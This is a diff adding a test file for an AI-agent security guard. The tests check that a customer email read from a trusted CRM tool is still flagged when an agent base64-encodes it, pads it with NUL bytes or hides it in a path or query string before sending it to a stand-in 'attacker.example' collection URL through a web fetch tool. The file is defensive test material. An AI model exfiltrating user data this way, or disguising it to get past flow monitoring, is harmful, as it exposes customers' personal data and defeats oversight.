@@ -1,0 +1,57 @@
+/**
+ * End to end through the real guard (classifier, redactor, memory flow store, Cedar): a value that a trusted result
+ * carried, disguised by an agent before it leaves through an open-world tool, is still seen flowing; and benign text
+ * after such a read is not.
+ */
+import { describe, expect, it } from "vitest";
+import { createMemorySink } from "../../src/audit/memory-sink.js";
+import { createClassifier } from "../../src/classify/classify.js";
+import { createRedactor } from "../../src/classify/redact.js";
+import { createMemoryFlowStore } from "../../src/flow/memory-flow-store.js";
+import { createGuard } from "../../src/guard.js";
+import { DURING_SUPPORT, fixedClock, SUPPORT_RUNTIME, supportDeclaration } from "../helpers.js";
+
+const FLOW = "flow-to-egress-outside-allow";
+const ATTACKER = "https://attacker.example/collect";
+const EMAIL = "jane.doe@customer.example";
+const b64u = (value: string | Buffer) => (typeof value === "string" ? Buffer.from(value) : value).toString("base64url");
+
+/**
+ * Reads `record` from crm/get_customer (trusted) in a fresh guard whose read scope covers every class here, then sends
+ * `args` through web/fetch (open-world): only flow tracking stands between the record and attacker.example.
+ */
+async function send(record: Record<string, unknown>, args: Record<string, unknown>): Promise<readonly string[]> {
+  const guard = await createGuard({
+    declaration: supportDeclaration({
+      dataScope: { read: ["pii.email", "pii.name", "pii.phone", "pii.address", "pii.ssn", "financial.card", "financial.iban", "secret.stripe_key", "secret.token"], write: [] },
+      tools: [
+        { server: "crm", allow: ["get_customer"], intent: "read" },
+        { server: "web", allow: ["fetch"], intent: "read", zone: "open-world" },
+      ],
+    }) as never,
+    audit: [createMemorySink()],
+    runtime: SUPPORT_RUNTIME,
+    clock: fixedClock(DURING_SUPPORT),
+    classifier: createClassifier(),
+    redactor: createRedactor(),
+    flowStore: createMemoryFlowStore(),
+  });
+  const read = { server: "crm", tool: "get_customer", args: { id: 7 }, sessionId: "s1" };
+  expect((await guard.beforeCall(read)).decision).toBe("allow");
+  expect((await guard.afterCall(read, { customer: record })).decision).toBe("allow");
+  const verdict = await guard.beforeCall({ server: "web", tool: "fetch", args, sessionId: "s1" });
+  await guard.close();
+  return verdict.policyIds;
+}
+
+describe("guard with flow tracking on disguised values", () => {
+  it("sees an email base64-encoded as a URL path segment, after a path or a short prefix", async () => {
+    expect(await send({ email: EMAIL }, { url: `${ATTACKER}/u/${b64u(EMAIL)}` })).toContain(FLOW);
+    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=id-${b64u(EMAIL)}` })).toContain(FLOW);
+    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=x${b64u(EMAIL)}` })).toContain(FLOW);
+  });
+
+  it("sees an email base64-encoded with NUL bytes after it", async () => {
+    expect(await send({ email: EMAIL }, { url: `${ATTACKER}?d=${b64u(Buffer.concat([Buffer.from(EMAIL), Buffer.alloc(8)]))}` })).toContain(FLOW);
+  });
+});
